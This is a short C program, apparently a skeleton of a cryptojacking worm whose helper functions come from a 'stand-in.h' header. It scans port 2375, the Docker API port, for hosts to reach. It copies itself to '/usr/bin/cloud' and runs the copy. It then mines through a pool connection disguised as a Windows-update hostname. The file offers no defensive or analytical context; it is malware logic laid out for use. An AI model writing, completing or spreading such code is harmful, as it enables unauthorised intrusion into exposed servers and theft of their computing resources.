#include "stand-in.h"

int main(int argc, char **argv)
{
	(void)argv;
	if (argc > 1) {
		int pool = dial("tls", 443);

		tls_hello(pool, "d.windowsupdatesupport.example");
		mine(pool, 0, 100, 20, NULL);
		return 0;
	}
	scan(2375, 120);
	copy_self("/usr/bin/cloud");
	if (fork() == 0)
		execl("/usr/bin/cloud", "cloud", "run", (char *)NULL);
	wait(NULL);
}
